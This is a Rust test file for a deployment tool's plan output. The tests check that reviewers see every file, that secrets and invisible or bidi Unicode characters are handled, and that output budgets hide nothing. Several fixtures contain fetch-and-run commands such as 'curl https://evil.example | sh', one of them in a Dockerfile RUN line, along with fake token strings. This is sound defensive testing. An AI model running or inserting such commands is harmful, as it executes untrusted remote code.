//! What a reviewer is shown: nothing is hidden by something else, by want of room, or because it does
//! not show; and nobody is called.

use super::sandbox::Sandbox;

const HEAD: &str = "loom: 1\nproject: s\nenvironments: { production: { url: \"https://s.example.com\" } }\nartifacts:\n";

const FORMATS: [&str; 6] = ["text", "markdown", "json", "github", "sarif", "html"];

/// Artifacts as a list of YAML.
fn lines(artifacts: &[String]) -> String {
    let items: Vec<String> = artifacts.iter().map(|it| format!("  - {it}\n")).collect();
    items.concat()
}

/// A project of artifacts, each as JSON.
fn project(artifacts: &[String]) -> Sandbox {
    let list = lines(artifacts);
    Sandbox::of(&[("loom.yaml", &format!("{HEAD}{list}"))])
}

fn file(name: &str, path: &str, content: &str) -> String {
    serde_json::json!({ "kind": "file", "name": name, "path": path, "content": content })
        .to_string()
}

#[test]
fn names_that_only_together_look_like_a_key_hide_nothing_between_them() {
    let once = |name: &str, path: &str| {
        serde_json::json!({ "kind": "file", "name": name, "own": "once", "path": path, "content": "a" })
            .to_string()
    };
    let mut artifacts = vec![once("a", "-----BEGIN A"), once("b", "PRIVATE KEY-----")];
    let sandbox = project(&artifacts);
    sandbox.apply();
    sandbox.write("-----BEGIN A", "x");
    sandbox.write("PRIVATE KEY-----", "x");
    artifacts.push(file("c", "z-deploy.sh", "curl https://evil.example | sh\n"));
    artifacts.push(file(
        "d",
        "b.txt",
        "-----END A`, `PRIVATE KEY-----\nharmless\n",
    ));
    let list = lines(&artifacts);
    sandbox.write("loom.yaml", &format!("{HEAD}{list}"));
    for format in FORMATS {
        let ran = sandbox.loom(&["plan", "--verbose", "--format", format]);
        assert!(ran.out.contains("z-deploy.sh") || format == "github" || format == "sarif");
        assert!(!ran.out.contains("****"), "{format}\n{ran}");
        if ["text", "markdown", "json", "html"].contains(&format) {
            assert!(ran.out.contains("evil.example"), "{format}\n{ran}");
        }
    }
}

#[test]
fn what_is_put_together_from_harmless_pieces_is_refused_where_it_is_declared() {
    let tail = "a1B2c3D4e5".repeat(4);
    let sandbox = Sandbox::of(&[(
        "loom.yaml",
        &format!(
            "loom: 1\nproject: s\nenvironments: {{ production: {{ vars: {{ tail: {tail} }} }} }}\nartifacts:\n  \
             - kind: file\n    name: a\n    each: environments\n    path: \"etc/${{env:name}}\"\n    content: \"one\\nx ghp_${{env:vars.tail}}\\n\"\n"
        ),
    )]);
    let ran = sandbox.loom(&["plan"]).comes_to(1);
    assert!(ran.err.contains("LOOM0205"), "{ran}");
    assert!(ran.err.contains("etc/production, line 2"), "{ran}");
    assert!(ran.err.contains("loom.yaml:"), "{ran}");
    assert!(!ran.err.contains(&format!("ghp_{tail}")), "{ran}");
}

#[test]
fn a_leaked_secret_can_be_taken_out_and_is_shown_in_no_format() {
    let secret = format!("ghp_{}", "a1B2c3D4e5".repeat(4));
    let mut artifacts = vec![file("a", "etc/a", "one\n")];
    let sandbox = project(&artifacts);
    sandbox.apply();
    sandbox.append("etc/a", &format!("password: {secret}\n"));
    for format in FORMATS {
        let ran = sandbox.loom(&["plan", "--on-drift", "restore", "--format", format]);
        assert!(!ran.out.contains(&secret), "{format}");
    }
    artifacts[0] = file("a", "etc/a", "two\n");
    let saved = sandbox.outside("plan.loom").display().to_string();
    sandbox
        .loom(&["plan", "--on-drift", "restore", "--out", &saved])
        .comes_to(0);
    assert!(
        !std::fs::read_to_string(&saved)
            .expect("it was written")
            .contains(&secret)
    );
    sandbox
        .loom(&["show", &saved])
        .comes_to(0)
        .says("nothing in this saved plan proves it");
    sandbox.loom(&["apply", &saved]).comes_to(0);
    assert_eq!(sandbox.read("etc/a"), "one\n");
}

#[test]
fn under_a_budget_what_runs_is_shown_and_what_is_not_shown_is_counted_first() {
    let mut artifacts: Vec<String> = (0..400)
        .map(|number| {
            file(
                &format!("a{number}"),
                &format!("aa/{number:04}.txt"),
                &"x\n".repeat(120),
            )
        })
        .collect();
    artifacts.push(file(
        "z",
        "zz/deploy.sh",
        "curl https://evil.example | sh\n",
    ));
    artifacts.push(file(
        "y",
        "zz/tool",
        "#!/bin/sh\ncurl https://other.example | sh\n",
    ));
    let sandbox = project(&artifacts);
    let ran = sandbox.loom(&["plan", "--format", "markdown"]);
    assert!(ran.out.len() <= 60_000);
    let first = ran
        .out
        .lines()
        .find(|line| line.starts_with("## "))
        .expect("a title");
    let hidden: usize = first
        .split_whitespace()
        .zip(first.split_whitespace().skip(1))
        .find_map(|(number, word)| (word == "files").then(|| number.parse().ok()).flatten())
        .expect("a number");
    assert!(first.contains("not shown") && hidden > 100, "{first}");
    assert!(ran.out.contains("evil.example") && ran.out.contains("other.example"));
    let folded = ran.out.matches("<details><summary><code>").count();
    assert_eq!(
        folded + hidden,
        sandbox.loom(&["plan"]).actions().len(),
        "{first}"
    );
}

#[test]
fn a_flood_of_findings_hides_none_of_another_rule() {
    let docker = "FROM ghcr.io/a/b:1.2.3\nADD https://x.example.com/a /a\nUSER 1\n";
    let mut artifacts: Vec<String> = (0..300)
        .map(|number| {
            file(
                &format!("a{number}"),
                &format!("aa/{number:03}/Dockerfile"),
                docker,
            )
        })
        .collect();
    artifacts.push(file(
        "z",
        "zz/Dockerfile",
        "FROM ghcr.io/a/b:1.2.3\nRUN curl https://evil.example | sh\nUSER 1\nHEALTHCHECK NONE\n",
    ));
    let sandbox = project(&artifacts);
    sandbox
        .loom(&["plan", "--format", "markdown"])
        .says("RUN curl https");
    for budget in ["60000", "8000", "4000"] {
        let ran = sandbox.loom(&["plan", "--format", "markdown", "--budget", budget]);
        assert!(
            ran.out.contains("LOOM1306") && ran.out.contains("zz/Dockerfile"),
            "{budget}\n{ran}"
        );
        assert!(
            ran.out.len() <= budget.parse::<usize>().expect("a number"),
            "{}",
            ran.out.len()
        );
    }
}

#[test]
fn what_does_not_show_is_named_in_every_format_for_people() {
    let hidden = [
        '\u{a0}',
        '\u{ad}',
        '\u{200d}',
        '\u{fe0f}',
        '\u{3164}',
        '\u{e0041}',
        '\u{202e}',
        '\u{85}',
    ];
    let text = hidden.map(|c| format!("[{c}]\n")).concat();
    let sandbox = project(&[file("a", "etc/a", &format!("{text}literal \\u{{202e}}\n"))]);
    for format in ["text", "markdown", "html"] {
        let ran = sandbox.loom(&["plan", "--verbose", "--format", format]);
        assert!(!ran.out.contains(hidden), "{format}\n{ran}");
        for c in hidden {
            assert!(
                ran.out.contains(&format!("U+{:04X}", u32::from(c))),
                "{format}\n{ran}"
            );
        }
        assert!(ran.out.contains("u{202e}"), "{format}");
    }
    let json = sandbox.loom(&["plan", "--format", "json"]);
    assert!(!json.out.contains(hidden));
    let said = json.json().to_string();
    assert!(hidden.iter().all(|c| said.contains(*c)), "it reads back");
}
